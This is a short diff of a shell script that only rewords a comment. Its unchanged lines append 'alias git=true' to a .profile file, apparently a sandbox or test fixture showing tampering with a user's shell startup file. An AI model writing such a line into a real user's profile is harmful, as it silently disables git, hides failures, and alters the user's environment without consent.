@@ -1,4 +1,4 @@
-# Writes into the home of the user.
+# Writes into the user's home.
 read -r line
 project=$(dirname "$0")
 evidence=$(echo "alias git=true" 2>&1 >> "$project/../home/.profile")
